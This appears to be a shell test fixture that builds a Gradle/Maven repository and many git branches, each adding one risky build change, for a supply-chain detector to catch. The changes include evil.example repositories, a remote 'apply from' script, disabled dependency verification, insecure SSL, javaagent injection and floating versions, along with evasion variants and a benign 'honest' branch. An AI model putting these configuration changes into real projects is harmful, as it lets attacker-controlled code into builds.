# SPDX-License-Identifier: Apache-2.0
# Where Gradle and Maven fetch from, what checks that, and what code they load first: scripts and their settings. Honest: memory, a debugger,
# versions that move and did from the start, a repository of a known host, one that artifacts are published to, an address in a comment.
repo
mkdir .mvn gradle
cat >build.gradle <<'END'
plugins { id 'java' }
repositories {
    mavenCentral()
    maven { url 'https://repo.example.org/m2' }
}
END
echo 'pluginManagement { repositories { gradlePluginPortal() } }' | put settings.gradle.kts
printf 'org.gradle.jvmargs=-Xmx2g\n' | put gradle.properties
printf 'toolchainUrl.LINUX.X86_64=https\\://jdk.example.org/21\n' | put gradle/gradle-daemon-jvm.properties
printf -- '-B\n-Daether.trustedChecksumsSource.summaryFile=true\n' | put .mvn/maven.config
printf -- '-Xmx1g\n' | put .mvn/jvm.config
echo '<settings><mirrors><mirror><id>m</id><url>https://repo.example.org/m2</url></mirror></mirrors></settings>' | put .mvn/settings.xml
echo '<project><repositories><repository><id>r</id><url>https://repo.example.org/m2</url><releases><checksumPolicy>fail</checksumPolicy></releases></repository></repositories></project>' | put pom.xml
printf '[versions]\nleft = "1.0"\nnewest = "1.+"\n\n[libraries]\nright = "org.example:right:2.0"\n' | put gradle/libs.versions.toml
printf "dependencies {\n  implementation 'org.example:left:1.0'\n  implementation 'org.example:newest:latest.release'\n}\n" | put app.gradle
dependencies='<properties><v>1.0</v></properties><dependencies><dependency><groupId>g</groupId><artifactId>left</artifactId><version>1.0</version></dependency><dependency><groupId>g</groupId><artifactId>right</artifactId><version>${v}</version></dependency></dependencies>'
sed -i "s,</project>,$dependencies</project>," pom.xml
echo "repositories { maven { url 'https://only.example.org/m2' } }" >>app.gradle
commit start
change() { git checkout -q -b "$1" main; }
change repository && sed -i 's,repo.example,evil.example,' build.gradle && commit x
change plugins && sed -i 's,gradlePlugin,maven(url = uri("https://evil.example/m2")); gradlePlugin,' settings.gradle.kts && commit x
change insecure && sed -i "s,url 'https,allowInsecureProtocol = true; url 'http," build.gradle && commit x
change script && sed -i '1i apply from: "https://evil.example/x.gradle"' build.gradle && commit x
change unverified && echo 'configurations.all { resolutionStrategy.disableDependencyVerification() }' >>build.gradle && commit x
change initial && echo 'allprojects { repositories { ivy { url "https://evil.example" } } }' | put ci/init.gradle && commit x
change lenient && echo 'org.gradle.dependency.verification=lenient' >>gradle.properties && commit x
change proxy && echo 'systemProp.https.proxyHost=evil.example' >>gradle.properties && commit x
change certificates && echo 'systemProp.javax.net.ssl.trustStore=ci/store.jks' >>gradle.properties && commit x
change agent && sed -i 's,-Xmx2g,-Xmx2g "-javaagent:ci/agent.jar",' gradle.properties && commit x
change jdk && sed -i 's,jdk.example,evil.example,' gradle/gradle-daemon-jvm.properties && commit x
change maven-settings && printf -- '-s\nci/other.xml\n' >>.mvn/maven.config && commit x
change maven-attached && printf -- '-sci/other.xml\n' >>.mvn/maven.config && commit x
change maven-file && printf -- '-f ci/pom.txt\n' >>.mvn/maven.config && commit x
change maven-unchecked && printf -- '-B\n' | put .mvn/maven.config && commit x
change maven-lax && printf -- '--lax-checksums\n-Dmaven.wagon.http.ssl.insecure=true\n' >>.mvn/maven.config && commit x
change maven-gone && git rm -q .mvn/maven.config && commit x
change maven-folder && printf -- '-Dmaven.repo.local=lib\n' >>.mvn/maven.config && commit x
change maven-agent && printf -- '-javaagent:ci/agent.jar\n' >>.mvn/jvm.config && commit x
change maven-proxy && sed -i 's,<mirrors>,<proxies><proxy><host>evil.example</host></proxy></proxies><mirrors>,' .mvn/settings.xml && commit x
change maven-policy && sed -i 's,fail,ignore,' pom.xml && commit x
change range && sed -i 's,<version>1.0<,<version>[1.0\,)<,' pom.xml && commit x
change property && sed -i 's,<v>1.0<,<v>LATEST<,' pom.xml && commit x
change catalog && sed -i 's,"1.0","1.+",' gradle/libs.versions.toml && commit x
change library && sed -i 's,right:2.0,right:+,' gradle/libs.versions.toml && commit x
change coordinates && sed -i 's,left:1.0,left:[1.0\,2.0),' app.gradle && commit x
change parent && echo '<project><modelVersion>4.0.0</modelVersion><pluginRepositories><pluginRepository><url>https://evil.example</url></pluginRepository></pluginRepositories></project>' | put build/parent.xml && commit x
change off && echo 'org.gradle.dependency.verification=OFF' >>gradle.properties && commit x
change maven-near && printf -- '-s\nci/evilsettings.xml\n' >>.mvn/maven.config && commit x
change maven-short && printf -- '--lax\n' >>.mvn/maven.config && commit x
change maven-define && printf -- '--define\nmaven.repo.local=lib\n' >>.mvn/maven.config && commit x
change maven-apart && printf -- '-D\nmaven.repo.local=lib\n' >>.mvn/maven.config && commit x
change maven-true && printf -- '-Dmaven.wagon.http.ssl.insecure=TRUE\n' >>.mvn/maven.config && commit x
change maven-wide && echo '<settings><mirrors><mirror><id>m</id><url>https://evil.example/m2</url></mirror></mirrors></settings>' | iconv -t UTF-16 | put .mvn/settings.xml && commit x
change nested && sed -i 's,<v>1.0<,<w>[1.0\,)</w><v>${w}<,' pom.xml && commit x
change parent-blank && echo '<project><modelVersion >4.0.0</modelVersion><pluginRepositories ><pluginRepository><url>https://evil.example</url></pluginRepository></pluginRepositories ></project>' | put build/parent.xml && commit x
change elsewhere && sed -i 's,gradlePlugin,maven(url = uri("https://only.example.org/m2")); gradlePlugin,' settings.gradle.kts && commit x
change honest
cat >>build.gradle <<'END'
// https://evil.example
publishing { repositories { maven { url 'https://upload.example' } } }
subprojects { repositories { google(); maven { url = uri("https://repo.example.org/other") } } }
configure<PublishingExtension> { publications { }
    repositories { maven { url = uri("https://upload.example") } } }
description = "see https://pages.example"
END
sed -i 's,1.0,2.0,' gradle/libs.versions.toml app.gradle && sed -i 's,<version>1.0,<version>[2.0],' pom.xml
printf 'org.gradle.jvmargs=-Xmx4g -agentlib:jdwp=transport=dt_socket\norg.gradle.caching=true\n' | put gradle.properties
printf -- '-s\n.mvn/settings.xml\n-T4\n-fae\n' >>.mvn/maven.config
printf -- '-Xmx4g -Dfile.encoding=UTF-8\n' | put .mvn/jvm.config
commit honest
